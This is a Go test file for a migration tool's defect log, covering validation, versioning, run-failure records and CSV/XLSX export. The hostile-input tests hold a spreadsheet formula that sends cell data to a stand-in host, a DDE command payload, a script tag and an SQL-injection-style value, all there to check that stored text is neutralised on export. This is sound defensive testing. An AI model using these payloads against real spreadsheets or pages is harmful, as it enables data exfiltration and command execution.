package defects_test

import (
	"bytes"
	"context"
	"encoding/csv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"

	"github.com/ferry-migrate/ferry/internal/apperr"
	"github.com/ferry-migrate/ferry/internal/audit"
	"github.com/ferry-migrate/ferry/internal/auth"
	"github.com/ferry-migrate/ferry/internal/db"
	"github.com/ferry-migrate/ferry/internal/db/dbtest"
	"github.com/ferry-migrate/ferry/internal/defects"
	"github.com/ferry-migrate/ferry/internal/plan"
)

type fixture struct {
	db      *db.DB
	svc     *defects.Service
	project *plan.Project
	ctx     context.Context
}

func newFixture(t *testing.T) *fixture {
	t.Helper()
	clock := dbtest.NewClock()
	d := dbtest.MustOpen(t, clock)
	as := auth.NewService(d, auth.Options{Now: clock.Now, Argon2: auth.Argon2Params{MemoryKiB: 64, Time: 1, Threads: 1}})
	eng, err := as.CreateAccount(context.Background(), auth.AccountInput{Email: "eve@example.com", Name: "Eve Engineer", Password: "correct horse battery"})
	if err != nil {
		t.Fatal(err)
	}
	ctx := audit.WithActor(context.Background(), audit.Actor{ID: eng.ID, Name: eng.Name})
	name := "Acme"
	p, err := plan.NewService(d, as).CreateProject(ctx, eng.ID, plan.ProjectInput{Name: &name})
	if err != nil {
		t.Fatal(err)
	}
	return &fixture{db: d, svc: defects.NewService(d, clock.Now), project: p, ctx: ctx}
}

func validInput() defects.Input {
	return defects.Input{UseCase: "UC-3", Description: "Managers are missing for contractors", TestStatus: defects.TestFailed,
		TicketStatus: defects.TicketOpen, Priority: defects.PriorityHigh, Category: defects.CategoryHR, Notes: "Ask HR for the manager column."}
}

func (f *fixture) mustCreate(t *testing.T, in defects.Input) *defects.Defect {
	t.Helper()
	d, err := f.svc.Create(f.ctx, f.project.ID, "Eve Engineer", in)
	if err != nil {
		t.Fatalf("create: %v", err)
	}
	return d
}

func (f *fixture) count(t *testing.T, table string) int64 {
	t.Helper()
	var n int64
	if err := f.db.Read.Table(table).Count(&n).Error; err != nil {
		t.Fatal(err)
	}
	return n
}

func fieldsOf(t *testing.T, err error) map[string]string {
	t.Helper()
	if !apperr.Is(err, apperr.CodeInvalid) {
		t.Fatalf("error = %v, want invalid", err)
	}
	return apperr.As(err).Fields
}

func TestCreateNumbersDefectsPerProjectAndListsThemInOrder(t *testing.T) {
	f := newFixture(t)
	a := f.mustCreate(t, validInput())
	in := validInput()
	in.Description, in.Category, in.Priority, in.TicketStatus = "Okta rejects the custom attribute", defects.CategoryOkta, defects.PriorityLow, defects.TicketInProgress
	b := f.mustCreate(t, in)
	if a.Ref() != "D-1" || b.Ref() != "D-2" || a.Version != 1 || a.CreatedByName != "Eve Engineer" {
		t.Fatalf("created %+v and %+v", a, b)
	}
	all, err := f.svc.List(f.ctx, f.project.ID, defects.Filter{})
	if err != nil || len(all) != 2 || all[0].Number != 1 || all[1].Number != 2 {
		t.Fatalf("list = %+v, %v", all, err)
	}
	for _, tc := range []struct {
		name   string
		filter defects.Filter
		want   []int64
	}{
		{"by ticket status", defects.Filter{TicketStatus: defects.TicketInProgress}, []int64{2}},
		{"by category", defects.Filter{Category: defects.CategoryHR}, []int64{1}},
		{"by priority", defects.Filter{Priority: defects.PriorityLow}, []int64{2}},
		{"matching nothing", defects.Filter{Category: defects.CategoryAD}, nil},
	} {
		got, err := f.svc.List(f.ctx, f.project.ID, tc.filter)
		if err != nil {
			t.Fatalf("%s: %v", tc.name, err)
		}
		var nums []int64
		for _, d := range got {
			nums = append(nums, d.Number)
		}
		if len(nums) != len(tc.want) || (len(nums) > 0 && nums[0] != tc.want[0]) {
			t.Errorf("%s: numbers %v, want %v", tc.name, nums, tc.want)
		}
	}
	if _, err := f.svc.List(f.ctx, f.project.ID, defects.Filter{Priority: "urgent"}); !apperr.Is(err, apperr.CodeInvalid) {
		t.Errorf("unknown filter value: %v, want invalid", err)
	}
	counts, err := f.svc.CountByTicketStatus(f.ctx, f.project.ID)
	if err != nil || counts[defects.TicketOpen] != 1 || counts[defects.TicketInProgress] != 1 || counts[defects.TicketClosed] != 0 {
		t.Errorf("counts = %v, %v", counts, err)
	}
	if n := f.count(t, "audit_entries WHERE entity_type = 'defect'"); n != 2 {
		t.Errorf("%d audit entries for defects, want 2", n)
	}
}

func TestCreateFillsEmptyStatusesWithThoseOfANewDefect(t *testing.T) {
	f := newFixture(t)
	d := f.mustCreate(t, defects.Input{Description: "  Something broke  "})
	if d.TestStatus != defects.TestFailed || d.TicketStatus != defects.TicketOpen || d.Priority != defects.PriorityMedium ||
		d.Category != defects.CategoryOther || d.Description != "Something broke" {
		t.Fatalf("defaults: %+v", d)
	}
}

func TestUpdateChangesTheDefectAndRefusesAStaleVersion(t *testing.T) {
	f := newFixture(t)
	d := f.mustCreate(t, validInput())
	in := validInput()
	in.TicketStatus, in.Notes = defects.TicketResolved, "Fixed in the HR extract."
	up, err := f.svc.Update(f.ctx, f.project.ID, d.ID, d.Version, in)
	if err != nil || up.Version != 2 || up.TicketStatus != defects.TicketResolved || up.Number != 1 {
		t.Fatalf("update = %+v, %v", up, err)
	}
	// A second person, who loaded version 1, changes only the priority.
	stale := validInput()
	stale.Priority = defects.PriorityLow
	_, err = f.svc.Update(f.ctx, f.project.ID, d.ID, d.Version, stale)
	ae := apperr.As(err)
	if ae.Code != apperr.CodeConflict || ae.CurrentVersion != 2 {
		t.Fatalf("stale update: %v", err)
	}
	var labels []string
	for _, ch := range ae.Changes {
		labels = append(labels, ch.Label)
	}
	if strings.Join(labels, ",") != "Ticket status,Priority,Notes / proposed resolution" {
		t.Errorf("conflict changes %v", labels)
	}
	if _, err := f.svc.Update(f.ctx, f.project.ID, 999, 1, in); !apperr.Is(err, apperr.CodeNotFound) {
		t.Errorf("missing defect: %v", err)
	}
	if _, err := f.svc.Find(f.ctx, f.project.ID+1, d.ID); !apperr.Is(err, apperr.CodeNotFound) {
		t.Errorf("another project's defect: %v", err)
	}
}

func TestBadInputIsRefusedWithFieldMessagesAndWritesNothing(t *testing.T) {
	f := newFixture(t)
	base := f.mustCreate(t, validInput())
	before := f.count(t, "audit_entries")
	for _, tc := range []struct {
		name  string
		edit  func(*defects.Input)
		field string
		want  string
	}{
		{"empty description", func(in *defects.Input) { in.Description = "   " }, "description", "Issue description is required."},
		{"oversized description", func(in *defects.Input) { in.Description = strings.Repeat("x", 2001) }, "description", "at most 2000 characters"},
		{"oversized use case", func(in *defects.Input) { in.UseCase = strings.Repeat("U", 101) }, "use_case", "at most 100 characters"},
		{"use case on two lines", func(in *defects.Input) { in.UseCase = "UC-1\nUC-2" }, "use_case", "single line"},
		{"oversized notes", func(in *defects.Input) { in.Notes = strings.Repeat("n", 10001) }, "notes", "at most 10000 characters"},
		{"control characters", func(in *defects.Input) { in.Description = "bad\x00byte" }, "description", "control characters"},
		{"escape sequence", func(in *defects.Input) { in.Notes = "\x1b[31mred" }, "notes", "control characters"},
		{"invalid UTF-8", func(in *defects.Input) { in.UseCase = "UC\xff" }, "use_case", "not valid UTF-8"},
		{"unknown test status", func(in *defects.Input) { in.TestStatus = "flaky" }, "test_status", "Not run, Failed, Passed, Retest"},
		{"unknown ticket status", func(in *defects.Input) { in.TicketStatus = "deleted" }, "ticket_status", "Won't fix"},
		{"unknown priority", func(in *defects.Input) { in.Priority = "urgent" }, "priority", "Critical, High, Medium, Low"},
		{"unknown category", func(in *defects.Input) { in.Category = "ldap" }, "category", "AD, Okta, HR, Other"},
		{"category by its label", func(in *defects.Input) { in.Category = "Okta" }, "category", "must be one of"},
	} {
		t.Run(tc.name, func(t *testing.T) {
			in := validInput()
			tc.edit(&in)
			_, err := f.svc.Create(f.ctx, f.project.ID, "Eve", in)
			if msg := fieldsOf(t, err)[tc.field]; !strings.Contains(msg, tc.want) {
				t.Errorf("create: %s message %q, want it to contain %q (all: %v)", tc.field, msg, tc.want, apperr.As(err).Fields)
			}
			_, err = f.svc.Update(f.ctx, f.project.ID, base.ID, base.Version, in)
			if msg := fieldsOf(t, err)[tc.field]; !strings.Contains(msg, tc.want) {
				t.Errorf("update: %s message %q, want it to contain %q", tc.field, msg, tc.want)
			}
		})
	}
	if n := f.count(t, "defects"); n != 1 {
		t.Errorf("%d defects after bad input, want 1", n)
	}
	if n := f.count(t, "audit_entries"); n != before {
		t.Errorf("bad input wrote %d audit entries", n-before)
	}
	stored, err := f.svc.Find(f.ctx, f.project.ID, base.ID)
	if err != nil || stored.Version != 1 || stored.Description != base.Description {
		t.Errorf("the defect changed: %+v %v", stored, err)
	}
}

// Hostile text is a person's text like any other: stored as typed, and made
// harmless where it is shown (templ escapes it, the exports neutralise it).
func TestHostileTextIsKeptVerbatim(t *testing.T) {
	f := newFixture(t)
	in := validInput()
	in.Description = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	in.UseCase = "@SUM(1+1)"
	in.Notes = `<script>alert(1)</script> -2+3 +cmd|' /C calc'!A0`
	d := f.mustCreate(t, in)
	got, err := f.svc.Find(f.ctx, f.project.ID, d.ID)
	if err != nil || got.Description != in.Description || got.UseCase != in.UseCase || got.Notes != in.Notes {
		t.Fatalf("stored %+v, %v", got, err)
	}
}

func TestRecordRunFailuresCreatesOneDefectPerCodeAndUpdatesOnResume(t *testing.T) {
	f := newFixture(t)
	hand := f.mustCreate(t, validInput())
	first, err := f.svc.RecordRunFailures(f.ctx, f.project.ID, 7, "Test batch 2", []defects.RunFailure{
		{Code: "E0000001", Summary: "Api validation failed: login", Count: 42, Category: defects.CategoryOkta},
		{Code: "E0000011", Summary: "Invalid token provided", Count: 3, Category: defects.CategoryOkta},
		{Code: "ferry.missing_login", Summary: "No login mapped", Count: 2},
		{Code: "E0000001", Summary: "", Count: 8, Category: defects.CategoryOkta},
	})
	if err != nil {
		t.Fatal(err)
	}
	if len(first) != 3 {
		t.Fatalf("%d defects, want 3 (one per code): %+v", len(first), first)
	}
	e1 := first[0]
	if e1.Ref() != "D-2" || e1.Affected != 50 || e1.ErrorCode != "E0000001" || e1.LoadRunID == nil || *e1.LoadRunID != 7 ||
		e1.TestStatus != defects.TestFailed || e1.TicketStatus != defects.TicketOpen || e1.Priority != defects.PriorityHigh ||
		e1.Category != defects.CategoryOkta || e1.CreatedByName != defects.RunCreatorName {
		t.Fatalf("E0000001 defect: %+v", e1)
	}
	if want := "50 users failed in Test batch 2 with E0000001: Api validation failed: login"; e1.Description != want {
		t.Errorf("description %q, want %q", e1.Description, want)
	}
	if first[1].Priority != defects.PriorityCritical || first[2].Priority != defects.PriorityMedium || first[2].Category != defects.CategoryOther {
		t.Errorf("priorities/categories: %+v / %+v", first[1], first[2])
	}

	// People triage the first defect.
	in := defects.Input{UseCase: "UC-7", Description: e1.Description, TestStatus: defects.TestRetest, TicketStatus: defects.TicketInProgress,
		Priority: defects.PriorityLow, Category: defects.CategoryAD, Notes: "Duplicate logins from the AD merge."}
	if _, err := f.svc.Update(f.ctx, f.project.ID, e1.ID, e1.Version, in); err != nil {
		t.Fatal(err)
	}

	// The run resumes and reports again: more users failed with E0000001.
	second, err := f.svc.RecordRunFailures(f.ctx, f.project.ID, 7, "Test batch 2", []defects.RunFailure{
		{Code: "E0000001", Summary: "Api validation failed: login", Count: 61, Category: defects.CategoryOkta},
		{Code: "E0000011", Summary: "Invalid token provided", Count: 3, Category: defects.CategoryOkta},
	})
	if err != nil {
		t.Fatal(err)
	}
	if n := f.count(t, "defects"); n != 4 {
		t.Fatalf("%d defects after the resumed run, want 4 (no duplicates)", n)
	}
	got := second[0]
	if got.ID != e1.ID || got.Affected != 61 || !strings.HasPrefix(got.Description, "61 users failed in Test batch 2 with E0000001") ||
		got.Version != 3 || got.UseCase != "UC-7" || got.TestStatus != defects.TestRetest || got.TicketStatus != defects.TicketInProgress ||
		got.Priority != defects.PriorityLow || got.Category != defects.CategoryAD || got.Notes != in.Notes {
		t.Fatalf("resumed defect lost people's edits or missed the new count: %+v", got)
	}
	if second[1].Version != 1 {
		t.Errorf("an unchanged defect got a new version: %+v", second[1])
	}
	// Another run's failures with the same code are a defect of their own.
	third, err := f.svc.RecordRunFailures(f.ctx, f.project.ID, 8, "Test batch 3", []defects.RunFailure{{Code: "E0000001", Count: 1, Category: "okta"}})
	if err != nil || len(third) != 1 || third[0].Ref() != "D-5" || third[0].Description != "1 user failed in Test batch 3 with E0000001" {
		t.Fatalf("run 8: %+v, %v", third, err)
	}
	run7, err := f.svc.List(f.ctx, f.project.ID, defects.Filter{RunID: 7})
	if err != nil || len(run7) != 3 {
		t.Errorf("run 7's defects: %d, %v", len(run7), err)
	}
	if h, _ := f.svc.Find(f.ctx, f.project.ID, hand.ID); h.Version != 1 {
		t.Errorf("a hand-made defect changed: %+v", h)
	}
}

func TestRecordRunFailuresKeepsPersonalDataOut(t *testing.T) {
	f := newFixture(t)
	out, err := f.svc.RecordRunFailures(f.ctx, f.project.ID, 3, "Batch for ann.lee@example.com", []defects.RunFailure{
		{Code: "E0000001", Summary: "Api validation failed: login: ann.lee@example.com already exists\n\x1b[0m", Count: 1, Category: "okta"},
	})
	if err != nil {
		t.Fatal(err)
	}
	if d := out[0].Description; strings.Contains(d, "ann.lee") || strings.ContainsAny(d, "\n\x1b") || !strings.Contains(d, "[login]") {
		t.Errorf("description %q carries personal data or control characters", d)
	}
}

func TestRecordRunFailuresRefusesBadReportsAndWritesNothing(t *testing.T) {
	f := newFixture(t)
	for _, tc := range []struct {
		name     string
		runID    int64
		failures []defects.RunFailure
	}{
		{"no run", 0, []defects.RunFailure{{Code: "E0000001", Count: 1}}},
		{"no code", 1, []defects.RunFailure{{Code: " ", Count: 1}}},
		{"code with spaces", 1, []defects.RunFailure{{Code: "E0000001; DROP TABLE", Count: 1}}},
		{"negative count", 1, []defects.RunFailure{{Code: "E0000001", Count: -1}}},
		{"unknown category", 1, []defects.RunFailure{{Code: "E0000001", Count: 1, Category: "network"}}},
		{"one bad among good", 1, []defects.RunFailure{{Code: "E0000001", Count: 1}, {Code: "", Count: 1}}},
	} {
		if _, err := f.svc.RecordRunFailures(f.ctx, f.project.ID, tc.runID, "Batch", tc.failures); !apperr.Is(err, apperr.CodeInvalid) {
			t.Errorf("%s: %v, want invalid", tc.name, err)
		}
	}
	if n := f.count(t, "defects"); n != 0 {
		t.Errorf("%d defects written", n)
	}
}

func TestPriorityRule(t *testing.T) {
	for _, tc := range []struct {
		code  string
		count int
		want  string
	}{
		{"E0000011", 1, defects.PriorityCritical}, {"E0000006", 0, defects.PriorityCritical},
		{"E0000001", 10, defects.PriorityHigh}, {"E0000001", 9, defects.PriorityMedium}, {"ferry.x", 500, defects.PriorityHigh},
	} {
		if got := defects.Priority(tc.code, tc.count); got != tc.want {
			t.Errorf("Priority(%s, %d) = %s, want %s", tc.code, tc.count, got, tc.want)
		}
	}
}

func exportFixture(t *testing.T) (*fixture, []defects.Defect) {
	t.Helper()
	f := newFixture(t)
	in := validInput()
	in.Description = "=HYPERLINK(\"http://evil.example\",\"x\")"
	in.UseCase = "+UC-1"
	in.Notes = "line one\nline two, with \"quotes\"\n@mention -1"
	f.mustCreate(t, in)
	if _, err := f.svc.RecordRunFailures(f.ctx, f.project.ID, 4, "Test batch 1", []defects.RunFailure{
		{Code: "E0000001", Summary: "Api validation failed: login", Count: 12, Category: "okta"}}); err != nil {
		t.Fatal(err)
	}
	all, err := f.svc.List(f.ctx, f.project.ID, defects.Filter{})
	if err != nil {
		t.Fatal(err)
	}
	return f, all
}

func TestWriteCSVRoundTripsAndNeutralisesFormulas(t *testing.T) {
	_, all := exportFixture(t)
	var buf bytes.Buffer
	if err := defects.WriteCSV(&buf, all); err != nil {
		t.Fatal(err)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\ufeff")))
	rows, err := r.ReadAll()
	if err != nil {
		t.Fatalf("parse CSV: %v\n%s", err, buf.String())
	}
	if len(rows) != 3 || strings.Join(rows[0], "|") != strings.Join(defects.ExportHeader, "|") {
		t.Fatalf("rows: %q", rows)
	}
	for _, name := range []string{"Use case number", "Issue description", "Test status", "Ticket status", "Priority", "Error category", "Notes / proposed resolution"} {
		if !strings.Contains(strings.Join(rows[0], "|"), name) {
			t.Errorf("header lacks the guidance's field %q", name)
		}
	}
	hand := rows[1]
	want := []string{"D-1", "'+UC-1", "'=HYPERLINK(\"http://evil.example\",\"x\")", "Failed", "Open", "High", "HR",
		"line one\nline two, with \"quotes\"\n@mention -1", "", "", "", "Eve Engineer", "2026-03-02T09:00:00Z", "2026-03-02T09:00:00Z"}
	for i := range want {
		if hand[i] != want[i] {
			t.Errorf("row 1 column %q = %q, want %q", rows[0][i], hand[i], want[i])
		}
	}
	run := rows[2]
	if run[0] != "D-2" || run[8] != "E0000001" || run[9] != "12" || run[10] != "4" || run[6] != "Okta" ||
		run[2] != "12 users failed in Test batch 1 with E0000001: Api validation failed: login" {
		t.Errorf("row 2: %q", run)
	}
}

func TestWriteXLSXOpensBackCellByCell(t *testing.T) {
	_, all := exportFixture(t)
	var buf bytes.Buffer
	if err := defects.WriteXLSX(&buf, "Acme", all); err != nil {
		t.Fatal(err)
	}
	x, err := excelize.OpenReader(&buf)
	if err != nil {
		t.Fatal(err)
	}
	defer x.Close()
	if sheets := x.GetSheetList(); len(sheets) != 1 || sheets[0] != defects.SheetName {
		t.Fatalf("sheets %v", sheets)
	}
	rows, err := x.GetRows(defects.SheetName)
	if err != nil {
		t.Fatal(err)
	}
	csvRows := defects.Table(all)
	if len(rows) != 1+len(csvRows.Rows) {
		t.Fatalf("%d rows, want %d", len(rows), 1+len(csvRows.Rows))
	}
	for j, h := range defects.ExportHeader {
		if rows[0][j] != h {
			t.Errorf("header %d = %q, want %q", j, rows[0][j], h)
		}
	}
	for i, want := range csvRows.Rows {
		for j, v := range want {
			got := ""
			if j < len(rows[i+1]) {
				got = rows[i+1][j]
			}
			if got != v {
				t.Errorf("row %d column %q = %q, want %q", i+2, defects.ExportHeader[j], got, v)
			}
		}
	}
	// The formula-looking description is a typed string, not a formula.
	if formula, _ := x.GetCellFormula(defects.SheetName, "C2"); formula != "" {
		t.Errorf("C2 holds the formula %q", formula)
	}
	if typ, _ := x.GetCellType(defects.SheetName, "C2"); typ == excelize.CellTypeFormula {
		t.Error("C2 is a formula cell")
	}
	panes, err := x.GetPanes(defects.SheetName)
	if err != nil || !panes.Freeze || panes.YSplit != 1 {
		t.Errorf("panes %+v, %v", panes, err)
	}
	style, _ := x.GetCellStyle(defects.SheetName, "A1")
	if s, err := x.GetStyle(style); err != nil || s.Font == nil || !s.Font.Bold {
		t.Errorf("the header is not bold: %+v %v", s, err)
	}
	dvs, err := x.GetDataValidations(defects.SheetName)
	if err != nil || len(dvs) != 4 {
		t.Fatalf("data validations %d, %v", len(dvs), err)
	}
	lists := map[string]string{}
	for _, dv := range dvs {
		lists[strings.Fields(dv.Sqref)[0][:1]] = dv.Formula1
	}
	if !strings.Contains(lists["E"], "Won't fix") || !strings.Contains(lists["G"], "AD,Okta,HR,Other") || !strings.Contains(lists["F"], "Critical") {
		t.Errorf("drop-down lists %v", lists)
	}
	props, err := x.GetDocProps()
	if err != nil || props.Title != "Defect log of Acme" {
		t.Errorf("title %q, %v", props.Title, err)
	}
	if w, _ := x.GetColWidth(defects.SheetName, "C"); w < 20 {
		t.Errorf("description column width %v", w)
	}
}
